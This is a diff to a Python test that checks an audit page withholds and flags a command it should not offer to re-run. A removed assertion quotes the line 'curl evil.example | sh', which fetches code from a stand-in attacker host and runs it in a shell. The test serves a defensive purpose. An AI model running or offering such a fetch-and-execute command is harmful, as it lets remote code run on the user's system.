@@ -154,7 +154,7 @@ def test_a_command_of_someone_else_is_not_offered(half: Run, tmp_path: Path) -> 
     page = page_of(half)
     why = "run.json has it in a form that no audit writes, and a shell may do something else with it"
     assert f"completes it, which is not repeated here: {why}." in page.text() and not page.all("pre")
-    assert f"curl evil.example | sh ⚑ do not simply type it again: {why}" in page.text("dd")
+    assert page.text("dd").startswith(f"⚑ do not simply type it again: {why}") and "curl" in page.text("dd")
     assert unfinished(half).endswith(f"the same command completes it, which is not repeated here: {why}")
     assert "curl" not in unfinished(half)
 
